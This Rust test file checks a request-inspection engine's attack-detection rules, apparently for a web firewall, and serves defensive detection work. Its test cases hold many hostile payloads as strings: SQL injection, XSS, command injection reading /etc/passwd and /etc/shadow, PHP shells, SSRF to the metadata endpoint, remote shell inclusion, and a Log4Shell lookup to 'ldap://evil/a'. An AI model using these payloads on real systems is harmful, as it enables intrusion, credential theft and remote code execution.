//! Tests of the attack rules across the checks.

use super::chars::single_byte_class;
use super::*;
use crate::detect::{normalize, Direction};
use proptest::prelude::*;

fn shared_rules() -> &'static Rules {
    static RULES: std::sync::OnceLock<Rules> = std::sync::OnceLock::new();
    RULES.get_or_init(Rules::new)
}

/// Bytes with keywords and the bytes of the two-byte classes mixed in.
fn keyword_soup() -> impl proptest::strategy::Strategy<Value = Vec<u8>> {
    use proptest::prelude::*;
    const WORDS: &[&str] =
        &["etc/passwd", "java.lang", "${jndi:", "<!doctype", "--", "0x", "union", "$where", "-", "0"];
    let piece = prop_oneof![
        any::<u8>().prop_map(|b| vec![b]),
        proptest::sample::select(WORDS).prop_map(|w| w.as_bytes().to_vec())
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest::proptest! {
    /// The fused pass agrees with `char_mask` and with the crate's own overlapping search,
    /// also where it stops stepping the automaton at the first keyword.
    #[test]
    fn keyword_and_mask_pass_agrees(b in keyword_soup()) {
        let Some(dfa) = shared_rules().automaton.as_ref() else { return Err(proptest::test_runner::TestCaseError::fail("no automaton")) };
        let (any, mask) = any_keyword_and_mask(dfa, &b);
        proptest::prop_assert_eq!(mask, char_mask(&b));
        let mut reference = 0;
        for (i, &c) in b.iter().enumerate() {
            reference |= single_byte_class(c);
            if i > 0 { reference |= pair_class(b[i - 1], c); }
        }
        proptest::prop_assert_eq!(mask, reference);
        proptest::prop_assert_eq!(any, overlapping(dfa, &b).next().is_some());
    }
}

fn classes(key: &str, value: &str) -> Vec<&'static str> {
    let rules = Rules::new();
    let site = Site { direction: Direction::Request, part: Part::Query, field: key, key };
    let mut out = Vec::new();
    rules.scan(site, &normalize(value), &mut |c, _, _| out.push(c));
    out
}

#[test]
fn each_class_fires() {
    let cases = [
        ("q", "1' OR '1'='1", "sqli"),
        ("q", "<script>alert(1)</script>", "xss"),
        ("q", r#"<a href="javascript:alert(1)">x</a>"#, "xss"),
        ("q", r#"<root><a probe="ja&amp;tab;vascript:alert(1)"></a></root>"#, "xss"),
        ("q", "x' LIKE 'a%", "sqli"),
        ("file", "../../../../etc/passwd", "path_traversal"),
        ("cmd", "; cat /etc/passwd", "command_injection"),
        // shell forms without a separator, and programs behind quoting tricks
        ("code", "$SHELL -c \"echo hi\"", "command_injection"),
        ("x", "c{a,oun}t /etc/hosts", "command_injection"),
        ("x", "{,ifconfig,eth0}", "command_injection"),
        ("x", "!-1!-2", "command_injection"),
        ("x", "~+", "command_injection"),
        ("x", "\\ls", "command_injection"),
        ("x", "ti''me sh -c whoami", "command_injection"),
        ("x", "a; sh$XX -c whoami", "command_injection"),
        ("x", "|$u wget test", "command_injection"),
        ("x", "time; ansible-config dump", "command_injection"),
        ("x", "perf --version", "command_injection"),
        ("x", "c99 -wrapper sh,-c,curl example.com .", "command_injection"),
        // PHP calls through expressions, obfuscated names, php.ini lines
        ("x", "(sy.(st).em)('uname');", "php_injection"),
        ("x", "\"\\x73y\\x73tem\"(ls);", "php_injection"),
        ("x", "$__[$_[1]](7)", "php_injection"),
        ("x", "FOOcall_user_func()", "php_injection"),
        ("x", "exec /*comment*/ ()", "php_injection"),
        ("x", "memory_limit = 512M", "php_injection"),
        ("x", "opcache.jit_max_polymorphic_calls=50", "php_injection"),
        // traversal with separators no decoder restores
        ("f", "..%c1%1c..%c1%1cetc%c1%1cpasswd", "path_traversal"),
        ("f", "..0x2f..0x2f..0x2fetc0x2fpasswd", "path_traversal"),
        ("f", "?.%%35%%63?.%%35%%63boot.ini", "path_traversal"),
        // statement fragments
        ("q", "UnIon seleCt\n", "sqli"),
        ("q", "EXECUTE IMMEDIATE \"", "sqli"),
        ("q", " case when a then b", "sqli"),
        ("id", "password::int", "sqli"),
        ("q", "` AS `edit_user_id` from", "sqli"),
        ("q", ";truncate[xx", "sqli"),
        ("q", "'x'!='y", "sqli"),
        ("host", "127.0.0.1; whoami", "command_injection"),
        ("x", "for /f %i in ('dir') do echo %i", "command_injection"),
        ("url", "http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("url", "gopher://127.0.0.1:6379/_INFO", "ssrf"),
        ("page", "http://66.240.183.75/shell.txt?", "rfi"),
        ("tag", "ftp://1.1.1.1", "rfi"),
        ("name", "{{7*7}}", "ssti"),
        ("name", "${T(java.lang.Runtime).getRuntime().exec('id')}", "ssti"),
        ("user", "*)(uid=*))(|(uid=*", "ldap_injection"),
        ("x", "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "xxe"),
        ("x", "${${lower:j}ndi:ldap://evil/a}", "log4shell"),
        ("x", "x%0d%0aSet-Cookie:%20a=b", "crlf_injection"),
        ("x", "java.lang.Runtime", "java_injection"),
        ("x", "<?php system($_GET['c']); ?>", "php_injection"),
        ("x", "O:8:\"stdClass\":0:{}", "php_injection"),
        ("x", "require('child_process').exec('id')", "code_injection"),
        ("x", "<!--#exec cmd=\"ls\" -->", "ssi_injection"),
        ("x", "' or count(/child::node())=1 or '", "xpath_injection"),
        ("x", "true, $where: '1 == 1'", "nosqli"),
        ("code", "time ifconfig", "command_injection"),
        ("x", "1; exec /bin/sh", "command_injection"),
        ("x", "@@version", "sqli"),
        ("x", "ifconfig", "command_injection"),
        ("x", "x; sudo cat /etc/shadow", "command_injection"),
        ("x", r#"<a href="../../etc/passwd">"#, "path_traversal"),
    ];
    for (key, value, class) in cases {
        let got = classes(key, value);
        assert!(got.contains(&class), "{value}: want {class}, got {got:?}");
    }
}

#[test]
fn ordinary_values_stay_quiet() {
    for value in [
        "John O'Neil",
        "42 Main St., Springfield",
        "https://www.example.com/products?id=7",
        "Meeting at 10:30; bring the slides",
        "cats & dogs",
        "{{first_name}}",
        "price: $5 (incl. tax)",
        "v1.2..1.5 range",
        "user@example.com",
        "I like cat videos",
        "curl",
        "select your plan",
        "Q&A session | 2pm",
        "a=b; c=d",
        "the system (v2) is down",
        // near misses of the rules above
        "fields={id,name}",
        "Section 5(a)(1)",
        "just in case when it rains then we stay",
        "std::string",
        "Wow!",
        "~ approx",
        "engine: v8",
        "etc. and passwd reset",
        "trade union, select committee",
        "Union Select",
        // rich text and markup from libinjection's benign list
        r#"see <a href="/apps/">the gallery</a>!"#,
        r#"pr_shop">MamaBearBabyWear</a>"#,
        r#"{% $num_views|string_format:"%d" %} vues"#,
        "FHFUIVJ[I['=\\]=-]L;/...",
        r#""LIKE" STAMP"#,
        "the file (pdf)",
        r#"junk <a href="../">foo.com</a>"#,
        "1; exec will create the case 7",
        "done; time flies",
    ] {
        let got = classes("q", value);
        assert!(got.is_empty(), "{value}: {got:?}");
    }
}

#[test]
fn names_and_protocol() {
    let rules = Rules::new();
    let mut got = Vec::new();
    rules.scan_name("user[$ne]", &mut |c, _, _| got.push(c));
    rules.scan_name("__proto__[admin]", &mut |c, _, _| got.push(c));
    assert_eq!(got, vec!["nosqli", "code_injection"]);
    let headers = [("content-length", "5"), ("content-length", "6")];
    assert!(protocol_anomaly(headers.iter().copied()).is_some());
    let headers = [("host", "a"), ("content-length", "5")];
    assert!(protocol_anomaly(headers.iter().copied()).is_none());
}

/// Values built from the checks' own needles, blanks and odd bytes: where a gate is false its
/// check must find nothing (and `shell` nothing beyond `shell_start`).
fn needle_soup() -> impl Strategy<Value = String> {
    const PIECES: &[&str] = &[
        // xss, ssti, ldap, nosql, log4j, crlf, xxe
        "javascript:",
        "java",
        "script",
        "vbscript:",
        "livescript",
        "data:",
        "text/html",
        "url(",
        "expression(",
        "-moz-binding",
        "binding",
        "behavior:url",
        "@import",
        "srcdoc=",
        "xlink:href",
        "background:url(",
        "document",
        ".cookie",
        "window",
        "globalthis",
        "global",
        "this",
        "xmlhttprequest",
        "(document)",
        "newfunction(",
        "btoa(",
        "settimeout(",
        "alert",
        "confirm",
        "prompt",
        "eval",
        "atob",
        "open",
        "write",
        "print",
        "fetch",
        "((((((",
        "!!!!!!",
        "+++",
        "[]",
        "/*",
        "*/",
        "\t",
        "\n",
        "\r",
        "\u{7f}",
        "\u{a0}",
        "\u{85}",
        "\u{2028}",
        "`",
        "${",
        "}",
        "{{",
        "7*7",
        "}}",
        "{%",
        "%}",
        "<%",
        "%>",
        "[[",
        "]]",
        "#{",
        "*{",
        "@{",
        "__",
        "config",
        "${jndi:",
        "${lower:j}",
        "${::-n}",
        "ndi:",
        "lower:",
        ":-",
        "$ne",
        "$gt",
        "[$ne]",
        "db.",
        "users",
        ".find",
        "';return",
        "\";return",
        "||",
        "==",
        "}while(",
        ";while(",
        "*)(",
        ")(",
        "(|(",
        "(&(",
        "(!(",
        "*))",
        "uid=",
        "&xxe;",
        "%ent;",
        "&copy;",
        "host:",
        "http/1",
        "onerror",
        "onload=",
        "+adw-",
        "+ad4-",
        "xmlns:xss",
        "<?import",
        // traversal, php, url, shell
        "/",
        "\\",
        ".",
        "..",
        "...",
        "../",
        "..\\",
        "..;",
        ";",
        " ",
        "=",
        "'",
        "\"",
        ">",
        "<",
        "|",
        "&",
        "$",
        "(",
        ")",
        "{",
        "[",
        "]",
        "?",
        ":",
        "#",
        "@",
        "!",
        "~",
        "+",
        "-",
        "_",
        ",",
        "%",
        "*",
        "0x",
        "0x2e",
        "0x2f",
        "0x5c",
        "c:",
        "c:\\",
        "c:/",
        "etc",
        "/etc/",
        "passwd",
        "etc%c1%pc",
        "oot.ini",
        "win.ini",
        "{file}",
        "/tmp/",
        "/proc/",
        "/var/log",
        "/home/",
        "<?",
        "xml",
        "php",
        "[php]",
        "{php}",
        "o:",
        "a:",
        "1",
        "12",
        "127.0.0.1",
        "10.0.0.1",
        "0177.",
        "2130706433",
        "localhost",
        "metadata",
        "ip6-localhost",
        ".internal",
        "[::1]",
        "http",
        "https",
        "ftp",
        "file",
        "://",
        "//",
        "system",
        "exec",
        "\\x73",
        "](",
        "\"sys\"",
        "memory_limit",
        "opcache.jit",
        "whoami",
        "ls",
        "id",
        "cat",
        "sudo",
        "dir",
        "which",
        "sleep",
        "echo",
        "sh",
        ",-c,",
        " --",
        "-la",
        "\\n",
        "\\r",
        "if",
        "for",
        "%windir%",
        "$(",
        "$[",
        "ifs",
        "x",
        "b",
        "q",
        "v",
        "mozilla/5.0",
        "c{a,oun}t",
        "{,ifconfig}",
        "w'h'oami",
        "c\\at",
        "net.local",
        "foo-bar",
    ];
    let piece = prop_oneof![
        any::<char>().prop_map(|c| c.to_string()),
        proptest::sample::select(PIECES).prop_map(str::to_owned)
    ];
    proptest::collection::vec(piece, 0..12).prop_map(|p| p.concat())
}

/// The gated checks on one (normalized) value: which gate was false, where `Rules::scan`'s
/// class test alone would have run the check, while the check found something.
fn gate_violations(v: &str, key: &str) -> Vec<&'static str> {
    use chars::*;
    let b = v.as_bytes();
    let (signals, m) = shared_rules().keywords_and_mask(b, &mut |_, _, _| {});
    let any = |bits: u32| m & bits != 0;
    let mut out = Vec::new();
    let mut check = |name, classes: bool, gate: bool, found: bool| {
        if classes && !gate && found {
            out.push(name);
        }
    };
    let xss_classes = any(ANGLE | PAREN | BACKTICK | COMPARE | BRACKET) || signals & keywords::SIGNAL_XSS != 0;
    let split_scheme = any(COLON) && any(SPACE | NEWLINE | CONTROL);
    let utf7 = any(PLUS) && bytes::find(b, b"+ad").is_some();
    check("xss", xss_classes || split_scheme || utf7, gates::xss(b, m), xss::detect(v).is_some());
    check("template", any(BRACE | PERCENT | BRACKET), gates::template(b, m), template(b).is_some());
    check("ldap", any(PAREN) || (any(STAR) && any(PIPE | AMP)), gates::ldap(b, m), ldap(b, m).is_some());
    for in_header in [false, true] {
        check("crlf", any(NEWLINE), gates::crlf(m, in_header), crlf(b, in_header).is_some());
    }
    check("log4j", any(DOLLAR) && any(BRACE), gates::log4j(m), log4j(v).is_some());
    let nosql_classes = any(DOLLAR | PIPE | PAREN | QUOTE) || signals & keywords::SIGNAL_NOSQL != 0;
    check("nosql", nosql_classes, gates::nosql(b, m), nosql(b, m).is_some());
    let entity_classes = any(AMP | PERCENT) && any(SEMI);
    check("entity", entity_classes, gates::entity_reference(b), entity_reference(b).is_some());
    check("traversal", any(SLASH | HEX), gates::traversal(b, m), traversal(b).is_some());
    let dotted = any(DOT | PERCENT | QUESTION | HEX);
    check("encoded_traversal", dotted, gates::encoded_traversal(b, m), encoded_traversal(b).is_some());
    let php_classes = any(QUESTION | BRACKET | BRACE | COLON | DOLLAR);
    check("php_structures", php_classes, gates::php_structures(m), php_structures(b, m).is_some());
    check("php_ini", any(COMPARE), gates::php_ini_setting(b), php_ini_setting(b).is_some());
    check("php_call", any(PAREN), gates::php_expression_call(b), php_expression_call(b).is_some());
    check("url", any(COLON | SLASH | QUESTION), gates::url_value(v, m), url_value(v, key).is_some());
    let escaped_break = any(SLASH) && (bytes::find(b, b"\\n").is_some() || bytes::find(b, b"\\r").is_some());
    for batch in [false, true] {
        let shell_classes = any(SHELL | ANGLE | BRACKET) || batch || escaped_break;
        check("shell", shell_classes, gates::shell(b, m, batch), shell(v, batch) != shell_start(v));
    }
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(
        std::env::var("MESHWARD_GATE_CASES").ok().and_then(|n| n.parse().ok()).unwrap_or(3_000)
    ))]
    #[test]
    fn gates_hold(s in needle_soup(), file_key in any::<bool>()) {
        let key = if file_key { "file" } else { "q" };
        for v in [s.to_ascii_lowercase(), normalize(&s).to_string()] {
            let violations = gate_violations(&v, key);
            prop_assert!(violations.is_empty(), "{violations:?} on {v:?}");
        }
    }
}

#[test]
fn gated_checks_still_find_what_only_their_rare_paths_find() {
    // each of these reaches its check through the narrowest part of its gate
    for (value, class) in [
        (".\\./.\\./etc/passwd", "path_traversal"),
        ("\"system\"/**/(ls)", "php_injection"),
        ("ale rt(1)", "xss"),
        ("javascript\t:alert(1)", "xss"),
        ("${jndi:ldap://x/a}", "log4shell"),
        ("*)(uid=*))(|(uid=*", "ldap_injection"),
        ("http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("; cat /etc/passwd", "command_injection"),
    ] {
        let mut classes = Vec::new();
        let site = Site { direction: Direction::Request, part: Part::Query, field: "q", key: "q" };
        shared_rules().scan(site, &normalize(value), &mut |class, _, _| classes.push(class));
        assert!(classes.contains(&class), "{value:?}: {classes:?}");
    }
}

/// Command-injection short forms and the PHP rules' context.
mod shell_php;
